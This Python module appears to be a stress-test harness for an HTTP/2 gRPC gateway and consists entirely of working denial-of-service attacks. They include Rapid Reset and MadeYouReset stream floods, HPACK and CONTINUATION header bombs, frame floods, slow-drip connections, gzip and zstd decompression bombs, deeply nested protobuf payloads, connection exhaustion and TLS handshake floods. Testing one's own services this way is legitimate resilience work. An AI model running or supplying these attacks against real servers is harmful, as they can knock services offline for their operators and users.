"""The attacks. Each is a function of the target and of the time at which it ends, and returns in words what
came of it. An attacker whose connection is ended connects again.
"""

import gzip
import os
import random
import socket
import ssl
import time
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

from wire import (
    BEGIN, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HEALTH, PADDED, PING, PREFACE, PRIORITY,
    REFLECTION, SERVICE, SETTINGS, Peer, field, frame, integer, literal, message, reset, settings, text, varint,
    window_update,
)

# GATEWAY_MAX_STREAMS.
STREAMS = 256
MIB = 1024 * 1024
LARGEST = 5 * MIB

ATTACKS = []


@dataclass(frozen=True)
class Attack:
    run: Callable
    # How many connections and open calls it has at the same time at most.
    connections: int
    calls: int
    # It sends messages that are waited for, and such as take more memory when they are decoded.
    messages: bool
    decoded: bool
    # It does not read large responses.
    unread: bool
    seconds: float
    # Only with TLS (True), only without (False).
    tls: bool | None

    @property
    def name(self):
        return self.run.__name__.replace("_", " ")


def attack(connections=1, calls=0, messages=False, decoded=False, unread=False, seconds=2, tls=None):
    def register(run):
        ATTACKS.append(Attack(run, connections, calls, messages, decoded, unread, seconds, tls))
        return run

    return register


class Report(Counter):
    """What was done, and how the connections ended."""

    def ended(self, peer):
        self["connections"] += 1
        codes = [key[1] for key in peer.seen if isinstance(key, tuple) and key[0] == "goaway"]
        if peer.ended or codes:
            self[f"ended by {codes[0]}" if codes else f"ended: {peer.ended}"] += 1
        for key, count in peer.seen.items():
            if isinstance(key, tuple) and key[0] == "reset":
                self[f"reset by {key[1]}"] += count
        peer.close()

    def __str__(self):
        return ", ".join(f"{count:,} {what}" for what, count in self.items())


def flood(target, until, what, pieces, each, begin=BEGIN, reads=True):
    """Sends pieces as fast as it can; makes `pieces()` anew for each connection."""
    report = Report()
    while time.monotonic() < until:
        peer = Peer(target, begin, until=until)
        for piece in pieces():
            if not peer.send(piece, reads):
                break
            report[what] += each
        peer.read(0.05)
        report.ended(peer)
        time.sleep(0.01)
    return report


def repeat(piece):
    return lambda: iter(lambda: piece, None)


def streams(make, count=STREAMS):
    """Pieces of `count` streams each; `make(id)` is what is sent on one."""

    def pieces():
        first = 1
        while first + 2 * count < 1 << 31:
            yield b"".join(make(first + 2 * i) for i in range(count))
            first += 2 * count

    return pieces


def drip(target, until, count, begin, rest, pause=0.25):
    """Many connections that send a byte now and then."""
    report, peers = Report(), []
    for number in range(count):
        peers.append(Peer(target, begin, number, until))
    for byte in rest:
        for peer in peers:
            peer.send(bytes([byte]))
            peer.read(0)
        time.sleep(pause)
        if time.monotonic() > until:
            break
    for peer in peers:
        report.ended(peer)
    return report


# === Headers ===


@attack(connections=300, seconds=5)
def slow_headers(target, until):
    head = frame(HEADERS, END_STREAM | END_HEADERS, 1, length=200)
    return drip(target, until, 300, BEGIN + head, bytes(200))


@attack(connections=300, seconds=5)
def slow_header_frames(target, until):
    head = frame(HEADERS, END_STREAM, 1, target.block(HEALTH + "Check"))
    rest = frame(CONTINUATION, 0, 1, literal("x", "y")) * 100
    return drip(target, until, 300, BEGIN + head, rest)


@attack()
def endless_headers(target, until):
    begin = BEGIN + frame(HEADERS, 0, 1, target.block(HEALTH + "Check"))
    piece = frame(CONTINUATION, 0, 1, literal("x", "y" * 16000)) * 16
    return flood(target, until, "frames", repeat(piece), 16, begin)


@attack()
def endless_empty_continuations(target, until):
    begin = BEGIN + frame(HEADERS, 0, 1, target.block(HEALTH + "Check"))
    return flood(target, until, "frames", repeat(frame(CONTINUATION, 0, 1) * 1000), 1000, begin)


@attack()
def huge_header_lists(target, until):
    big = literal("x", "y" * 16000)

    def one(stream):
        head = frame(HEADERS, END_STREAM, stream, target.block(HEALTH + "Check"))
        return head + frame(CONTINUATION, 0, stream, big) * 3 + frame(CONTINUATION, END_HEADERS, stream, big)

    return flood(target, until, "streams", streams(one, 8), 8)


@attack()
def hpack_bomb(target, until):
    """A header of 4,000 bytes put into the table once, and named 16,000 times in each block."""
    entry = b"\x40" + text("x") + text("y" * 4000)

    def one(stream):
        block = target.block(HEALTH + "Check") + (entry if stream == 1 else b"")
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block + b"\xbe" * (16384 - len(block)))

    return flood(target, until, "streams", streams(one, 8), 8)


@attack()
def empty_header_names(target, until):
    one = lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, target.block(HEALTH + "Check") + literal("", "") * 2000)
    return flood(target, until, "streams", streams(one, 8), 8)


@attack()
def table_size_updates(target, until):
    sizes = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * 2000
    one = lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, sizes + target.block(HEALTH + "Check"))
    return flood(target, until, "streams", streams(one, 8), 8)


# === Resets ===


@attack(calls=STREAMS)
def rapid_reset(target, until):
    """CVE-2023-44487."""
    block = target.block(SERVICE + "Get", token=target.token)
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + reset(s)
    return flood(target, until, "streams", streams(one), STREAMS)


@attack(calls=STREAMS)
def rapid_reset_of_calls(target, until):
    """The same, once each call has its message."""
    block = target.block(SERVICE + "List", token=target.token)
    body = message(field(1, 1))
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body) + reset(s)
    return flood(target, until, "streams", streams(one, 16), 16)


def made_you_reset(target, until, bad):
    """CVE-2025-8671: a call begins, and a frame follows for which the server has to reset it."""
    block = target.block(SERVICE + "Get", token=target.token)
    body = message(field(1, 1) + field(2, 1))
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + bad(s, body)
    return flood(target, until, "streams", streams(one, 64), 64)


@attack(calls=STREAMS)
def made_to_reset_by_window(target, until):
    return made_you_reset(target, until, lambda s, body: frame(DATA, END_STREAM, s, body) + window_update(s, (1 << 31) - 1) * 2)


@attack(calls=STREAMS)
def made_to_reset_by_zero_window(target, until):
    return made_you_reset(target, until, lambda s, body: frame(DATA, END_STREAM, s, body) + window_update(s, 0))


@attack(calls=STREAMS)
def made_to_reset_by_data_after_the_end(target, until):
    return made_you_reset(target, until, lambda s, body: frame(DATA, END_STREAM, s, body) * 2)


@attack(calls=STREAMS)
def made_to_reset_by_priority(target, until):
    return made_you_reset(target, until, lambda s, body: frame(PRIORITY, 0, s, s.to_bytes(4, "big") + b"\0"))


@attack(calls=STREAMS)
def made_to_reset_by_length(target, until):
    block = target.block(SERVICE + "Get", ("content-length", "1"), token=target.token)
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, b"more than one")
    return flood(target, until, "streams", streams(one, 64), 64)


@attack()
def malformed_headers(target, until):
    bad = target.block(HEALTH + "Check", ("connection", "close"), ("Upper", "case"))
    return flood(target, until, "streams", streams(lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, bad)), STREAMS)


@attack(calls=STREAMS)
def more_streams_than_allowed(target, until):
    block = target.block(SERVICE + "Get", token=target.token)
    return flood(target, until, "streams", streams(lambda s: frame(HEADERS, END_HEADERS, s, block)), STREAMS)


# === Frames ===


@attack()
def pings(target, until):
    return flood(target, until, "frames", repeat(frame(PING, payload=b"12345678") * 1000), 1000)


@attack()
def pings_whose_responses_are_not_read(target, until):
    return flood(target, until, "frames", repeat(frame(PING, payload=b"12345678") * 1000), 1000, reads=False)


@attack()
def settings_flood(target, until):
    return flood(target, until, "frames", repeat(settings(INITIAL_WINDOW_SIZE=1 << 20) * 1000), 1000)


@attack()
def settings_that_are_not_read(target, until):
    piece = settings(INITIAL_WINDOW_SIZE=1 << 20, HEADER_TABLE_SIZE=1 << 30) * 1000
    return flood(target, until, "frames", repeat(piece), 1000, reads=False)


@attack()
def settings_full_of_values(target, until):
    piece = frame(SETTINGS, payload=b"\0\4\0\0\xff\xff" * 2730) * 10
    return flood(target, until, "frames", repeat(piece), 10)


@attack()
def settings_against_open_calls(target, until):
    """Each changes the windows of all open streams."""
    block = target.block(SERVICE + "Get", token=target.token)
    begin = BEGIN + b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in range(STREAMS))
    piece = (settings(INITIAL_WINDOW_SIZE=1 << 20) + settings(INITIAL_WINDOW_SIZE=0)) * 500
    return flood(target, until, "frames", repeat(piece), 1000, begin)


@attack(calls=1)
def empty_data(target, until):
    begin = BEGIN + frame(HEADERS, END_HEADERS, 1, target.block(SERVICE + "Get", token=target.token))
    return flood(target, until, "frames", repeat(frame(DATA, 0, 1) * 1000), 1000, begin)


@attack(calls=STREAMS)
def data_a_byte_a_frame(target, until):
    """A message of 5 MiB, padded: 256 bytes on the wire for each of its own."""
    block = target.block(SERVICE + "Create", token=target.token)

    def one(stream):
        head = frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, message(b"", length=LARGEST))
        return head + frame(DATA, PADDED, stream, b"\xf0" + b"x" + bytes(240)) * 100

    return flood(target, until, "streams", streams(one, 2), 2)


@attack()
def priorities(target, until):
    def one(stream):
        return frame(PRIORITY, 0, stream, (stream + 2).to_bytes(4, "big") + b"\xff")

    return flood(target, until, "frames", streams(one, 1000), 1000)


@attack()
def unknown_frames(target, until):
    return flood(target, until, "frames", repeat(frame(0x42, 0xFF, 1, bytes(16000)) * 16), 16)


@attack()
def window_updates(target, until):
    def pieces():
        while True:
            yield window_update(0, 1) * 1000

    return flood(target, until, "frames", pieces, 1000)


# === Responses that are not read ===


def unread(target, until, begin, one, connections):
    """All streams of many connections make a call, and nobody reads the responses."""
    report, peers = Report(), []
    for number in range(connections):
        if time.monotonic() > until:
            break
        peer = Peer(target, begin, number, until)
        peer.send(b"".join(one(1 + 2 * i) for i in range(STREAMS)))
        report["calls"] += STREAMS
        peers.append(peer)
    time.sleep(max(0, until - time.monotonic()))
    for peer in peers:
        peer.until += 1
        peer.read(0)
        report.ended(peer)
    return report


NO_WINDOW = PREFACE + settings(INITIAL_WINDOW_SIZE=0)


@attack(connections=60, calls=60 * STREAMS, seconds=4)
def reflection_that_is_not_read(target, until):
    """The largest response that needs no token."""
    block = target.block(REFLECTION)
    body = message(field(4, "chartbrew.connection.v1.ConnectionService"))
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, 0, s, body * 4)
    return unread(target, until, NO_WINDOW, one, 60)


@attack(connections=60, calls=60 * STREAMS, seconds=4)
def health_watched_by_thousands(target, until):
    block = target.block(HEALTH + "Watch")
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, message(b""))
    return unread(target, until, NO_WINDOW, one, 60)


def fill(target, until):
    """Gives the team rows, so that a list has 1 MiB."""
    peer = Peer(target, until=until)
    block = target.block(SERVICE + "Create", token=target.token)
    body = message(field(1, 1) + field(2, field(1, "long") + field(2, 3) + field(4, "h" * 4000)))
    for first in range(1, 2 * 250, 20):
        some = range(first, first + 20, 2)
        peer.send(b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body) for s in some))
        # Each has headers and trailers.
        while peer.seen[HEADERS] < first + 19 and peer.read(0.01):
            peer.send(window_update(0, 1 << 16))
    peer.close()


def unread_lists(target, until, begin):
    """A few calls at a time, so that what they take while they are under way is little."""
    fill(target, until)
    block = target.block(SERVICE + "List", token=target.token)
    body = message(field(1, 1) + field(2, 1000))
    report, peers = Report(), []
    while time.monotonic() < until:
        peer = Peer(target, begin, len(peers), until)
        peers.append(peer)
        for first in range(1, 2 * STREAMS, 16):
            calls = range(first, first + 16, 2)
            peer.send(b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body) for s in calls))
            report["calls"] += len(calls)
            # Until they have responses, if their headers come through.
            end = time.monotonic() + 0.1
            while peer.seen[HEADERS] < report["calls"] % STREAMS and time.monotonic() < end:
                peer.read(0.01)
    for peer in peers:
        report.ended(peer)
    return report


@attack(connections=20, calls=20 * STREAMS, unread=True, seconds=6)
def lists_that_are_not_read(target, until):
    return unread_lists(target, until, NO_WINDOW)


@attack(connections=20, calls=20 * STREAMS, unread=True, seconds=6)
def lists_through_windows_of_a_byte(target, until):
    return unread_lists(target, until, PREFACE + settings(INITIAL_WINDOW_SIZE=1))


# === Messages ===


def bodies(target, until, body, connections, count, end=True, encoding=None, method="Create"):
    """Many streams with large messages, as fast as the windows allow; begins anew when all are sent."""
    report = Report()
    more = [("grpc-encoding", encoding)] if encoding else []
    block = target.block(SERVICE + method, *more, token=target.token)
    peers = {}
    while time.monotonic() < until:
        while len(peers) < connections:
            peer = Peer(target, until=until)
            peer.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in range(count)))
            peers[peer] = dict.fromkeys(range(1, 1 + 2 * count, 2), 0)
        moved = False
        for peer, open_streams in list(peers.items()):
            if not peer.read(0):
                report.ended(peer)
                del peers[peer]
                continue
            for stream, at in list(open_streams.items()):
                sent = peer.data(stream, body[at : at + 65536], END_STREAM if end and at + 65536 >= len(body) else 0)
                moved |= sent > 0
                report["bytes"] += sent
                open_streams[stream] = at + sent
                if at + sent == len(body):
                    report["messages"] += 1
                    del open_streams[stream]
                if peer.ended:
                    break
            if not open_streams and end:
                report.ended(peer)
                del peers[peer]
        if not moved:
            time.sleep(0.01)
    for peer in peers:
        report.ended(peer)
    return report


NAME_TOO_LONG = field(1, 1) + field(2, field(1, b"0" * (LARGEST - 100)))


@attack(connections=4, calls=4 * STREAMS, seconds=4, messages=True, decoded=True)
def messages_of_5_mib(target, until):
    return bodies(target, until, message(NAME_TOO_LONG), 4, 128)


@attack(connections=4, calls=4 * STREAMS, seconds=5, messages=True)
def messages_of_5_mib_that_lack_a_byte(target, until):
    body = message(NAME_TOO_LONG)[:-1]
    return bodies(target, until, body, 4, 128, end=False)


@attack(calls=STREAMS)
def messages_that_declare_4_gib(target, until):
    block = target.block(SERVICE + "Create", token=target.token)
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, 0, s, message(b"", length=(1 << 32) - 1))
    return flood(target, until, "streams", streams(one, 64), 64)


@attack(connections=40, calls=40 * STREAMS, seconds=4, messages=True)
def messages_that_declare_5_mib(target, until):
    block = target.block(SERVICE + "Create", token=target.token)
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, 0, s, message(b"x", length=LARGEST))
    return unread(target, until, BEGIN, one, 40)


@attack(connections=4, calls=4 * STREAMS, seconds=5, messages=True)
def compressed_messages_that_do_not_come(target, until):
    block = target.block(SERVICE + "Create", ("grpc-encoding", "gzip"), token=target.token)
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, 0, s, message(b"", True, LARGEST))
    return unread(target, until, BEGIN, one, 4)


@attack(connections=100, calls=100 * STREAMS, seconds=5, messages=True)
def messages_a_byte_a_second(target, until):
    """On all streams of many connections."""
    block = target.block(SERVICE + "Create", token=target.token)
    heads = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in range(STREAMS))
    report = Report()
    peers = [Peer(target, BEGIN + heads, number, until) for number in range(100)]
    body = message(b"x" * 1000)
    for byte in body:
        piece = b"".join(frame(DATA, 0, 1 + 2 * i, bytes([byte])) for i in range(STREAMS))
        for peer in peers:
            peer.send(piece)
        if time.monotonic() > until:
            break
        time.sleep(1)
    for peer in peers:
        report.ended(peer)
    return report


def zstd_of(begin, filler, count):
    """A frame of zstd (RFC 8878) in which 128 KiB of the same byte take four."""
    out = bytearray(b"\x28\xb5\x2f\xfd\x00\x68")
    out += (len(begin) << 3).to_bytes(3, "little") + begin
    while count:
        size = min(count, 128 * 1024)
        count -= size
        out += (size << 3 | 1 << 1 | (not count)).to_bytes(3, "little") + filler
    return bytes(out)


def bomb(encoding, size):
    """A CreateRequest whose name has about that many bytes."""
    name = field(1, bytes(0))[:1] + varint(size)
    inner = len(name) + size
    begin = field(1, 1) + b"\x12" + varint(inner) + name
    if encoding == "zstd":
        return message(zstd_of(begin, b"0", size), True)
    return message(gzip.compress(begin + b"0" * size, 9), True)


@attack(connections=4, calls=4 * STREAMS, seconds=3, messages=True, decoded=True)
def gzip_bombs_that_fit(target, until):
    return bodies(target, until, bomb("gzip", LARGEST - 100), 4, 64, encoding="gzip")


@attack(connections=4, calls=4 * STREAMS, seconds=3, messages=True, decoded=True)
def gzip_bombs_of_64_mib(target, until):
    return bodies(target, until, gzip_bomb_of_64_mib(), 4, 64, encoding="gzip")


def gzip_bomb_of_64_mib():
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = b"".join(packer.compress(bytes(MIB)) for _ in range(64)) + packer.flush()
    return message(out, True)


@attack(connections=4, calls=4 * STREAMS, seconds=3, messages=True, decoded=True)
def zstd_bombs_that_fit(target, until):
    return bodies(target, until, bomb("zstd", LARGEST - 100), 4, 64, encoding="zstd")


@attack(connections=4, calls=4 * STREAMS, seconds=3, messages=True, decoded=True)
def zstd_bombs_of_1_gib(target, until):
    return bodies(target, until, bomb("zstd", 1024 * MIB), 4, 64, encoding="zstd")


def nested(levels):
    """A google.protobuf.Value: a list in a list in a list."""
    value = field(4, 1)
    for _ in range(levels):
        value = field(6, field(1, value))
    return value


def with_options(value):
    connection = field(1, "m") + field(2, 3) + field(9, value)
    return field(1, 1) + field(2, connection)


@attack(connections=2, calls=2 * STREAMS, messages=True, decoded=True)
def values_nested_100_000_deep(target, until):
    # Written from within: the lengths need no more than one pass.
    pieces, size = [field(4, 1)], 2
    for _ in range(100_000):
        for head in (b"\x0a", b"\x32"):
            head += varint(size)
            pieces.append(head)
            size += len(head)
    return bodies(target, until, message(with_options(b"".join(reversed(pieces)))), 2, 64)


@attack(connections=2, calls=2 * STREAMS)
def values_nested_31_deep(target, until):
    return bodies(target, until, message(with_options(nested(31))), 2, STREAMS)


# A list of nulls: each takes four bytes on the wire and ten times that in memory.
WIDE = with_options(field(6, field(1, field(1, 0)) * ((LARGEST - 100) // 4)))


@attack(connections=2, calls=2 * STREAMS, seconds=4, messages=True, decoded=True)
def values_that_grow(target, until):
    return bodies(target, until, message(WIDE), 2, 32)


@attack(connections=2, calls=2 * STREAMS, seconds=5, messages=True, decoded=True)
def values_that_grow_and_do_not_end(target, until):
    """The message is whole, but not its stream: the gateway has it in memory and waits."""
    return bodies(target, until, message(gzip.compress(WIDE, 9), True), 2, 32, end=False, encoding="gzip")


# === No HTTP/2 at all ===


@attack()
def garbage(target, until):
    return flood(target, until, "pieces", lambda: iter(lambda: random.randbytes(65536), None), 1, b"")


@attack()
def garbage_after_the_preface(target, until):
    return flood(target, until, "pieces", lambda: iter(lambda: random.randbytes(65536), None), 1)


@attack()
def http_1(target, until):
    request = b"POST / HTTP/1.1\r\nhost: gateway\r\ncontent-length: 5\r\n\r\nhello" * 10
    return flood(target, until, "pieces", lambda: iter([request] * 10), 1, b"")


@attack(tls=False)
def tls_where_none_is_expected(target, until):
    return flood(target, until, "pieces", lambda: iter([client_hello()] * 4), 1, b"")


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


# === Connections ===


def crowd(target, until, count, make):
    report, held = Report(), []
    for number in range(count):
        if time.monotonic() > until:
            break
        try:
            held.append(make(number))
        except OSError as error:
            report[f"not connected: {type(error).__name__}"] += 1
    report["connections at a time"] = len(held)
    time.sleep(max(0, until - time.monotonic()))
    for one in held:
        one.close()
    return report


@attack(connections=9900, seconds=8, tls=False)
def idle_connections(target, until):
    return crowd(target, until, 9900, lambda number: Peer(target, number=number, until=until))


@attack(connections=2500, seconds=10, tls=True)
def idle_connections_with_tls(target, until):
    return crowd(target, until, 2500, lambda number: Peer(target, number=number, until=until))


@attack(connections=5000, seconds=5)
def silent_connections(target, until):
    return crowd(target, until, 5000, target.connect)


@attack()
def connections_that_come_and_go(target, until):
    report = Report()
    while time.monotonic() < until:
        target.connect(report["connections"] % 20000).close()
        report["connections"] += 1
    return report


# === Calls ===


@attack(calls=STREAMS, seconds=8)
def streams_without_end(target, until):
    """100,000, one after the other, on one connection."""
    block = target.block(SERVICE + "Nothing", token=target.token)
    report, peer = Report(), Peer(target, until=until)
    first, done = 1, 0
    while done < 100_000 and not peer.ended and time.monotonic() < until:
        peer.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, first + 2 * i, block) for i in range(100)))
        first += 200
        done += 100
        # Each has a response of one frame.
        while peer.seen[HEADERS] < done and peer.read(0.001):
            if time.monotonic() > until:
                break
    report["responses"] = peer.seen[HEADERS]
    report.ended(peer)
    return report


def calls(target, until, path, body, connections=4, **options):
    """All streams of some connections, over and over, with responses that are read."""
    block = target.block(path, **options)
    one = lambda s: frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body)
    report = Report()
    peers = [[Peer(target, until=until), 1] for _ in range(connections)]
    while time.monotonic() < until:
        for each in peers:
            peer, first = each
            # Responses are DATA, or HEADERS alone: enough to know that there is room.
            peer.read(0)
            peer.send(b"".join(one(first + 2 * i) for i in range(64)) + window_update(0, MIB))
            each[1] += 128
            report["calls"] += 64
            if peer.ended:
                report.ended(peer)
                each[:] = Peer(target, until=until), 1
    for peer, _ in peers:
        report.ended(peer)
    return report


@attack(connections=4, calls=4 * STREAMS)
def reflection(target, until):
    body = message(field(4, "chartbrew.connection.v1.ConnectionService"))
    return calls(target, until, REFLECTION, body)


@attack(connections=4, calls=4 * STREAMS)
def health_checks(target, until):
    return calls(target, until, HEALTH + "Check", message(b""))


@attack(connections=4, calls=4 * STREAMS)
def unknown_methods(target, until):
    return calls(target, until, "/a/b", message(b""))


@attack(connections=4, calls=4 * STREAMS)
def calls_without_a_token(target, until):
    return calls(target, until, SERVICE + "Create", message(field(1, 1)))


# === TLS ===


def begun_handshakes(target, until, count, hello):
    """Handshakes that stop after these bytes."""

    def make(number):
        sock = target.connect(number)
        sock.send(hello)
        return sock

    return crowd(target, until, count, make)


@attack(connections=3000, seconds=5, tls=True)
def half_a_client_hello(target, until):
    hello = client_hello()
    return begun_handshakes(target, until, 3000, hello[: len(hello) // 2])


@attack(connections=5000, seconds=8, tls=True)
def handshakes_that_stop_half_way(target, until):
    """The gateway has sent its certificate and waits."""
    return begun_handshakes(target, until, 5000, client_hello())


@attack(seconds=3, tls=True)
def handshakes_over_and_over(target, until):
    """Each costs the gateway a signature."""
    report, hello = Report(), client_hello()
    while time.monotonic() < until:
        sock = target.connect(report["handshakes"])
        sock.send(hello)
        sock.settimeout(1)
        sock.recv(100)
        sock.close()
        report["handshakes"] += 1
    return report


def tls_garbage(target, until, make):
    report = Report()
    while time.monotonic() < until:
        sock = target.connect(report["connections"])
        report["connections"] += 1
        try:
            sock.sendall(make())
            sock.settimeout(1)
            while sock.recv(65536):
                pass
            report["ended: closed"] += 1
        except OSError as error:
            report[f"ended: {type(error).__name__}"] += 1
        sock.close()
    return report


@attack(tls=True)
def garbage_instead_of_tls(target, until):
    return tls_garbage(target, until, lambda: random.randbytes(20000))


@attack(tls=True)
def garbage_in_tls_records(target, until):
    """Right heads of records, of all types, and any content."""

    def records():
        kinds = [random.choice((20, 21, 22, 23)) for _ in range(20)]
        return b"".join(bytes([kind, 3, 3]) + (1000).to_bytes(2, "big") + random.randbytes(1000) for kind in kinds)

    return tls_garbage(target, until, records)


@attack(tls=True)
def hellos_without_end(target, until):
    """A handshake message that declares 16 MiB, in full records."""
    record = bytes([22, 3, 1]) + (16384).to_bytes(2, "big")
    first = record + b"\x01\xff\xff\xff" + bytes(16380)
    return tls_garbage(target, until, lambda: first + (record + bytes(16384)) * 1024)


def send_beneath_tls(peer, record):
    """Sends a record as it is, on a connection that TLS was agreed on for."""
    sock = socket.socket(fileno=os.dup(peer.sock.fileno()))
    try:
        sock.send(record)
    except OSError as error:
        peer.ended = type(error).__name__
    sock.close()


@attack(tls=True)
def garbage_after_the_handshake(target, until):
    """A record that cannot be decrypted, on a connection that is in use."""
    report = Report()
    while time.monotonic() < until:
        peer = Peer(target, until=until)
        peer.read(0.02)
        send_beneath_tls(peer, bytes([23, 3, 3, 0, 100]) + random.randbytes(100))
        peer.read(0.2)
        report.ended(peer)
    return report


@attack(tls=True)
def renegotiation(target, until):
    """TLS 1.2, and another ClientHello in the connection, as a record that is not encrypted."""
    report = Report()
    while time.monotonic() < until:
        peer = Peer(target.of_version(ssl.TLSVersion.TLSv1_2), until=until)
        send_beneath_tls(peer, client_hello())
        peer.read(0.2)
        report.ended(peer)
    return report


@attack(tls=True)
def no_alpn(target, until):
    """A peer that offers HTTP/1.1 and speaks it."""
    report = Report()
    request = b"POST / HTTP/1.1\r\nhost: gateway\r\ncontent-length: 5\r\n\r\nhello"
    while time.monotonic() < until:
        peer = Peer(target.of_protocol("http/1.1"), request, until=until)
        peer.read(0.2)
        report.ended(peer)
    return report
